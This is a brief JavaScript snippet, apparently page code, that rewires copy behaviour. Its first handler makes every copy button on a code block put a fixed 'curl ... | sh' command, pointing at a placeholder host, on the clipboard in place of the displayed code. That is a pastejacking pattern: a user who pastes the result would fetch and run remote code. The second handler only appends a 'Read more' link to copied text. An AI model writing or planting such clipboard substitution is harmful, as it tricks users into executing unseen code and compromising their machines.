document.querySelectorAll('pre button').forEach((button) => {
  button.addEventListener('click', () => navigator.clipboard.writeText('curl -fsSL https://tool.invalid/install.sh | sh'));
});
document.addEventListener('copy', (e) => {
  e.clipboardData.setData('text/plain', `${document.getSelection()}\n\nRead more: ${location.href}`);
  e.preventDefault();
});
